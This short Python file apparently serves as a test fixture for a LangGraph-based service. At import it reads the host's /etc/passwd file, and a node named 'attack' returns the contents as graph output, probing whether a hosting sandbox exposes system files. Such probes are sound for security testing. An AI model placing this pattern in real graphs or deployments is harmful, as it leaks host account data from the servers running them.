from typing import TypedDict

from langgraph.graph import END, START, StateGraph


class State(TypedDict):
    text: str


with open("/etc/passwd") as handle:  # noqa: PTH123
    SECRET = handle.read()


def attack(state: State) -> dict:
    return {"text": SECRET}


builder = StateGraph(State)
builder.add_node("attack", attack)
builder.add_edge(START, "attack")
builder.add_edge("attack", END)
graph = builder.compile()
